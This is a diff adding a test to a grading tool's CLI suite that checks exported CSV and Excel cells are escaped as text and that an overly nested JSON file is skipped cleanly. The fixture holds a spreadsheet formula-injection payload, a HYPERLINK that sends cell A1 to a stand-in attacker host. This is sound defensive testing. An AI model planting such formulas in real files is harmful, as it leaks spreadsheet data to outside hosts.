@@ -110,3 +110,37 @@ def test_cli_export_and_purge(course_files: Path) -> None:
         app, ["purge", "--course", str(course_files), "--older-than", "1", "--dry-run"]
     )
     assert purged.exit_code == 0, purged.output
+
+
+def test_export_writes_formulas_as_text_and_survives_deep_json(tmp_path: Path) -> None:
+    """Through `python -m grading export`: are formula cells text and a 200 KB nested file
+    a listed skip, never a crash?"""
+    import csv
+    import subprocess
+    import sys
+
+    source = tmp_path / "reports"
+    source.mkdir()
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    with (source / "flags.csv").open("w", newline="", encoding="utf-8") as handle:
+        csv.writer(handle).writerows([["kind", "detail"], [formula, "@SUM(1)"]])
+    workbook = Workbook()
+    workbook.active["A1"] = formula
+    workbook.active["A2"] = "-2+3"
+    workbook.save(source / "report.xlsx")
+    (source / "roleplay-deep.json").write_text("[" * 100_000 + "]" * 100_000)
+    out = tmp_path / "export"
+    run = subprocess.run(
+        [sys.executable, "-m", "grading", "export", str(source), "--out", str(out)],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert run.returncode == 0, run.stderr
+    assert "Traceback" not in run.stderr
+    assert "roleplay-deep.json" in run.stderr and "LoadLimitError" in run.stderr
+    with (out / "reports" / "flags.csv").open(newline="", encoding="utf-8") as handle:
+        assert list(csv.reader(handle))[1] == ["'" + formula, "'@SUM(1)"]
+    sheet = load_workbook(out / "reports" / "report.xlsx").active
+    assert (sheet["A1"].value, sheet["A1"].data_type) == ("'" + formula, "s")
+    assert sheet["A2"].value == "'-2+3"
